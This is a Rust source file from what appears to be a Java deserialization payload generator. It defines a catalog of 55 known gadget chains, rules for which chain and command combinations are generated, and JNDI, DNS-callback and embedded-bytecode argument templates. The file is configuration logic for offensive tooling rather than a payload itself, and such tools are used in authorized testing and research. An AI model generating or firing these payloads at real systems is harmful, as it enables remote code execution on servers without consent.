//! Gadget registry
//!
//! The fixed gadget catalog plus the rules deciding which (gadget, verb)
//! combinations are generated. Built once at startup and shared read-only.

use serde::Serialize;
use std::collections::{BTreeMap, BTreeSet};

use crate::config::Classification;
use crate::error::{Error, Result};
use crate::gadget::{Category, GadgetDescriptor};
use crate::verb::Verb;

/// Every gadget the payload library is expected to provide
pub const CATALOG: [&str; 55] = [
    "AspectJWeaver",
    "BeanShell1",
    "C3P0",
    "C3P0_LowVer",
    "Click1",
    "Clojure",
    "CommonsBeanutils1",
    "CommonsBeanutils1_183",
    "CommonsBeanutils2",
    "CommonsBeanutils2_183",
    "CommonsBeanutils3",
    "CommonsBeanutils3_183",
    "CommonsCollections1",
    "CommonsCollections10",
    "CommonsCollections11",
    "CommonsCollections2",
    "CommonsCollections3",
    "CommonsCollections4",
    "CommonsCollections5",
    "CommonsCollections6",
    "CommonsCollections6Lite",
    "CommonsCollections7",
    "CommonsCollections8",
    "CommonsCollections9",
    "CommonsCollectionsK1",
    "CommonsCollectionsK2",
    "CommonsCollectionsK3",
    "CommonsCollectionsK4",
    "FileUpload1",
    "FindClassByBomb",
    "FindClassByDNS",
    "FindGadgetByDNS",
    "Groovy1",
    "Hibernate1",
    "Hibernate2",
    "JBossInterceptors1",
    "JRMPClient",
    "JRMPClient2",
    "JRMPListener",
    "JSON1",
    "JavassistWeld1",
    "Jdk7u21",
    "Jdk8u20",
    "Jython1",
    "MozillaRhino1",
    "MozillaRhino2",
    "Myfaces1",
    "Myfaces2",
    "ROME",
    "Spring1",
    "Spring2",
    "Spring3",
    "URLDNS",
    "Vaadin1",
    "Wicket1",
];

/// Command handed to template gadgets; their payload is embedded bytecode
pub const TEMPLATE_COMMAND: &str = "class_base64:";

/// Gadgets whose entrypoint does not follow the `verb:argument` contract
const INCOMPATIBLE: [(&str, &str); 10] = [
    ("AspectJWeaver", "expects filename;base64 argument"),
    ("CommonsBeanutils3_183", "jndi only"),
    ("FileUpload1", "no standard command support"),
    ("JRMPClient", "expects host:port argument"),
    ("JRMPClient2", "expects host:port argument"),
    ("JRMPListener", "expects a port number"),
    ("Jython1", "no standard command support"),
    ("Spring3", "jndi only"),
    ("Wicket1", "expects a bespoke argument"),
    ("FindGadgetByDNS", "expects a bespoke argument"),
];

/// A (gadget, verb) combination that must never be generated
#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize)]
pub struct ExclusionRule {
    /// Gadget name
    pub gadget: String,
    /// Verb
    pub verb: Verb,
}

impl ExclusionRule {
    /// Create a rule
    pub fn new(gadget: impl Into<String>, verb: Verb) -> Self {
        Self {
            gadget: gadget.into(),
            verb,
        }
    }
}

/// A gadget generated exactly once with a fixed argument, independent of
/// classification
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct OneOff {
    /// Gadget name
    pub gadget: String,
    /// Argument passed to the library; `None` for no-argument objects
    pub argument: Option<String>,
}

/// A single-shot path that exists but is switched off
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct DisabledPath {
    /// Gadget name
    pub gadget: String,
    /// Command the path would use
    pub command: String,
    /// Why it is off
    pub reason: String,
}

/// Gadgets split into their generation buckets
#[derive(Debug, Clone, Default)]
pub struct Partition {
    /// Generated once with [`TEMPLATE_COMMAND`]
    pub templates: Vec<GadgetDescriptor>,
    /// Generated once per non-excluded verb
    pub transforms: Vec<GadgetDescriptor>,
    /// Generated once with a command derived from their ref-fun tag
    pub ref_funs: Vec<GadgetDescriptor>,
}

/// Static catalog and exclusion table
#[derive(Debug, Clone)]
pub struct GadgetRegistry {
    catalog: Vec<String>,
    transform_verbs: Vec<Verb>,
    incompatible: BTreeMap<String, String>,
    exclusions: BTreeSet<ExclusionRule>,
    one_offs: Vec<OneOff>,
    disabled: Vec<DisabledPath>,
}

impl GadgetRegistry {
    /// The registry the generator ships with
    pub fn builtin() -> Self {
        let catalog: Vec<String> = CATALOG.iter().map(|s| s.to_string()).collect();

        let mut exclusions = BTreeSet::new();
        for verb in [
            Verb::BcelWithArgs,
            Verb::LoadjarWithArgs,
            Verb::MozillaDefiningClassLoader,
            Verb::ScriptBase64,
        ] {
            exclusions.insert(ExclusionRule::new("BeanShell1", verb));
        }
        // Groovy1 only drives Runtime.exec(String)
        for verb in Verb::TRANSFORM.iter().filter(|v| **v != Verb::RawCmd) {
            exclusions.insert(ExclusionRule::new("Groovy1", *verb));
        }
        // Only CommonsCollections6 reaches a usable DefiningClassLoader
        for gadget in catalog.iter().filter(|g| *g != "CommonsCollections6") {
            exclusions.insert(ExclusionRule::new(
                gadget.as_str(),
                Verb::MozillaDefiningClassLoader,
            ));
        }

        Self {
            catalog,
            transform_verbs: Verb::TRANSFORM.to_vec(),
            incompatible: INCOMPATIBLE
                .iter()
                .map(|(g, why)| (g.to_string(), why.to_string()))
                .collect(),
            exclusions,
            one_offs: [
                ("CommonsBeanutils3", Some("jndi:{{param0}}")),
                ("FindClassByBomb", Some("{{param0}}|28")),
                ("FindClassByDNS", Some("http://{{param0}}|{{param1}}")),
                ("AspectJWeaver", Some("{{param0}};{{param1}}")),
                ("FindAllClassesByDNS", Some("{{param0}}")),
                ("URLDNS", Some("http://{{param0}}")),
                ("SimplePrincipalCollection", None),
            ]
            .into_iter()
            .map(|(gadget, argument)| OneOff {
                gadget: gadget.to_string(),
                argument: argument.map(str::to_string),
            })
            .collect(),
            disabled: vec![DisabledPath {
                gadget: "CommonsBeanutils3_183".to_string(),
                command: "jndi:{{param0}}".to_string(),
                reason: "jndi single-shot path disabled upstream without explanation".to_string(),
            }],
        }
    }

    /// Catalog gadget names, in generation order
    pub fn catalog(&self) -> &[String] {
        &self.catalog
    }

    /// Whether `name` is in the catalog
    pub fn contains(&self, name: &str) -> bool {
        self.catalog.iter().any(|g| g == name)
    }

    /// Look up a catalog or one-off gadget, failing for unknown names
    pub fn require(&self, name: &str) -> Result<&str> {
        self.catalog
            .iter()
            .map(String::as_str)
            .chain(self.one_offs.iter().map(|o| o.gadget.as_str()))
            .find(|g| *g == name)
            .ok_or_else(|| Error::UnknownGadget(name.to_string()))
    }

    /// Fixed single-shot entry for a gadget
    pub fn one_off(&self, name: &str) -> Option<&OneOff> {
        self.one_offs.iter().find(|o| o.gadget == name)
    }

    /// Verbs iterated for transform gadgets
    pub fn transform_verbs(&self) -> &[Verb] {
        &self.transform_verbs
    }

    /// Explicit (gadget, verb) exclusions
    pub fn exclusions(&self) -> impl Iterator<Item = &ExclusionRule> {
        self.exclusions.iter()
    }

    /// Fixed single-shot gadgets
    pub fn one_offs(&self) -> &[OneOff] {
        &self.one_offs
    }

    /// Single-shot paths that are switched off
    pub fn disabled(&self) -> &[DisabledPath] {
        &self.disabled
    }

    /// Why a gadget never takes the transform path, if it doesn't
    pub fn incompatibility(&self, gadget: &str) -> Option<&str> {
        self.incompatible.get(gadget).map(String::as_str)
    }

    /// Whether generating `gadget` with `verb` is forbidden
    pub fn is_excluded(&self, gadget: &str, verb: Verb) -> bool {
        self.incompatible.contains_key(gadget)
            || self.exclusions.contains(&ExclusionRule::new(gadget, verb))
    }

    /// Split the catalog into generation buckets.
    ///
    /// Ref-fun entries naming a gadget the registry does not know are
    /// dropped with a warning.
    pub fn partition(&self, classification: &Classification) -> Partition {
        let mut partition = Partition::default();

        for name in &self.catalog {
            match classification.category_of(name) {
                Category::RefFun => {}
                Category::Template => partition
                    .templates
                    .push(GadgetDescriptor::new(name.as_str(), Category::Template)),
                Category::Transform => partition
                    .transforms
                    .push(GadgetDescriptor::new(name.as_str(), Category::Transform)),
            }
        }

        partition.ref_funs = classification
            .ref_funs
            .iter()
            .filter(|(name, _)| match self.require(name) {
                Ok(_) => true,
                Err(err) => {
                    tracing::warn!("ignoring ref-fun entry: {err}");
                    false
                }
            })
            .map(|(name, kind)| GadgetDescriptor::ref_fun(name.as_str(), kind.as_str()))
            .collect();

        partition
    }

    /// Every (gadget, verb) pair to generate for the transform bucket
    pub fn transform_pairs<'a>(
        &'a self,
        partition: &'a Partition,
    ) -> impl Iterator<Item = (&'a GadgetDescriptor, Verb)> + 'a {
        partition.transforms.iter().flat_map(move |gadget| {
            self.transform_verbs
                .iter()
                .copied()
                .filter(move |verb| !self.is_excluded(&gadget.name, *verb))
                .map(move |verb| (gadget, verb))
        })
    }
}

impl Default for GadgetRegistry {
    fn default() -> Self {
        Self::builtin()
    }
}

/// Command used for a ref-fun gadget, by tag
pub fn ref_fun_command(kind: &str) -> Option<&'static str> {
    match kind {
        "jndi" => Some("jndi:{{param0}}"),
        "class" => Some("{{param0}}|28"),
        "class-dnslog" => Some("http://{{param0}}|{{param1}}"),
        "dnslog" => Some("http://{{param0}}"),
        _ => None,
    }
}
